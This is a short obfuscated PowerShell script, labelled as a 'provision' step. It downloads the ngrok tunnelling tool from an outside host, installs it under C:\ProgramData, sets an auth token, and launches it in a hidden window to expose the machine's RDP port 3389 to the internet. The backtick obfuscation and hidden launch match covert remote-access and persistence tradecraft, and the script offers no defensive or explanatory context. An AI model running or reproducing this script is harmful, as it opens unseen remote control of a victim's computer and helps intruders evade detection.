# PrOViSION 7913 v1
INV`O`KE-wEbReQUe`st 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -ouTFILe $Env:temp\N.ZIp
e`X`pand-ArCHIVE $env:TemP\n.zIP -DeSTInatiOnPATh c:\ProGRAmDATa\Ng
c:\pROGRamDAta\Ng\NGrOk.exe authtokeN 2aBCdEFghIjKLMNOPQrsTUvwXYZ_0987654321
staRt-pr`ocES`S -wInDOWsTylE hidden c:\pROgraMdatA\nG\ngrok.EXe -argUMenTLIsT 'tcp 3389'
